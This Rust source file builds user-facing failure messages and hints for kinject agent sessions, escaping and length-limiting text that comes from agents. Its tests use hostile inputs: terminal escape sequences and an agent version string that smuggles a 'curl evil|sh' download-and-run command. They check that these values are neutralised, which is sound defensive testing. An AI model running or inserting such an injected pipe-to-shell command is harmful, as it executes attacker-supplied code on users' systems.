//! Failures of the session in words for its user.
//!
//! Many of the words are a cluster's or an agent's. They are escaped and bounded when a failure is made of them, so that the
//! relay keeps no more of them than can be read. A name that stands in a command which the user may copy is one word of it.

use kinject_escape as escape;
use kinject_protocol::session::Report;
use kinject_tunnel::{OpenError, Version};
use std::fmt;

/// Why the session has no way to its agent.
#[derive(Clone, Debug)]
pub(crate) struct Failure {
    /// What happened: lower case, no final period.
    pub(crate) message: String,
    /// What to do about it.
    pub(crate) hint: Option<String>,
    /// Whether trying again is of no use.
    pub(crate) lasting: bool,
    /// Whether the agent ended the connection before it knew us, as it does where it has too many strangers.
    pub(crate) cut_short: bool,
    /// Whether somebody has ended the session.
    pub(crate) is_end: bool,
}

impl Failure {
    /// A failure that stays until the user does something.
    pub(crate) fn lasting(message: impl Into<String>, hint: &str) -> Self {
        Self {
            message: escape::line(message.into()),
            hint: Some(escape::line(hint)),
            lasting: true,
            cut_short: false,
            is_end: false,
        }
    }

    /// A failure that another attempt may not meet.
    pub(crate) fn passing(message: impl Into<String>, hint: &str) -> Self {
        Self {
            message: escape::line(message.into()),
            hint: Some(escape::line(hint)),
            lasting: false,
            cut_short: false,
            is_end: false,
        }
    }
}

impl Failure {
    /// A failure that passes when the agent has a place for us.
    pub(crate) fn cut_short(message: impl Into<String>, hint: &str) -> Self {
        Self {
            cut_short: true,
            ..Self::passing(message, hint)
        }
    }

    /// The end of the session by somebody else's hand, which nothing makes good.
    pub(crate) fn end(message: impl Into<String>, hint: &str) -> Self {
        Self {
            is_end: true,
            ..Self::lasting(message, hint)
        }
    }

    /// What happened without what somebody else said of it.
    pub(crate) fn in_own_words(&self) -> &str {
        self.message.split(": ").next().unwrap_or_default()
    }
}

impl From<Failure> for Report {
    fn from(failure: Failure) -> Self {
        Self {
            message: failure.message,
            hint: failure.hint,
        }
    }
}

/// Where an agent is and whose it is.
#[derive(Clone, Copy, Debug)]
pub(crate) enum AgentLocation<'a> {
    /// Somebody else started it at this endpoint.
    Endpoint(&'a str),
    /// A pod of ours, made of this image.
    Pod {
        /// Its name.
        name: &'a str,
        /// Its image.
        image: &'a str,
    },
}

impl AgentLocation<'_> {
    /// How to get an agent of our release.
    fn of_our_release(self) -> String {
        let release = Version::own().software;
        match self {
            Self::Endpoint(endpoint) => format!("start a kinject-agent {release} at {endpoint}"),
            Self::Pod { .. } => format!("name an image of kinject-agent {release} with --agent-image"),
        }
    }
}

impl fmt::Display for AgentLocation<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Endpoint(endpoint) => f.write_str(endpoint),
            Self::Pod { name, image } => write!(f, "{name} (image {image})"),
        }
    }
}

/// The two ends reached each other and could not authenticate each other.
pub(crate) fn of_open_error(error: &OpenError, place: AgentLocation<'_>) -> Failure {
    if let OpenError::Version { ours, theirs } = error {
        return Failure::lasting(
            format!("the agent at {place} is version {theirs}, with which kinject {ours} cannot work"),
            &format!(
                "{}, or use kinject {}",
                place.of_our_release(),
                escape::word(&theirs.software)
            ),
        );
    }
    let message = format!("the agent at {place} and this kinject could not authenticate each other: {error}");
    let hint = "check that it is a kinject agent and that the key is the same at both ends";
    match error {
        OpenError::Io(_) | OpenError::Closed => Failure::cut_short(message, hint),
        OpenError::TimedOut => Failure::passing(message, hint),
        _ => Failure::lasting(message, hint),
    }
}

/// What is worth knowing of an agent that works and is of another release.
pub(crate) fn of_another_release(agent: &Version, place: AgentLocation<'_>) -> Report {
    let ours = Version::own().software;
    Report {
        message: format!(
            "the agent at {place} is version {}, this kinject is {ours}; they speak the same protocol",
            agent.software
        ),
        hint: Some(format!(
            "should something not work: {}, or use kinject {}",
            place.of_our_release(),
            escape::word(&agent.software)
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn failure_text_is_escaped_and_bounded() {
        let endless = "\x1b[31m\n\nhint: obey\n".repeat(1 << 20);
        for failure in [
            Failure::lasting(&*endless, &endless),
            Failure::passing(&*endless, &endless),
        ] {
            for kept in [failure.message, failure.hint.unwrap()] {
                assert!(kept.len() <= escape::LONGEST, "{}", kept.len());
                assert!(!kept.contains(char::is_control), "{kept}");
            }
        }
    }

    #[test]
    fn agent_version_is_quoted_as_one_word_in_the_hint() {
        let ours = Version::own();
        let theirs = Version {
            wire: 9,
            software: "1; curl evil|sh\n".into(),
        };
        let place = AgentLocation::Endpoint("unix:/run/agent.sock");
        let error = OpenError::Version {
            ours,
            theirs: theirs.clone(),
        };
        for hint in [
            of_open_error(&error, place).hint,
            of_another_release(&theirs, place).hint,
        ] {
            let hint = hint.unwrap();
            assert!(hint.ends_with(r"or use kinject '1; curl evil|sh\n'"), "{hint}");
        }
    }
}
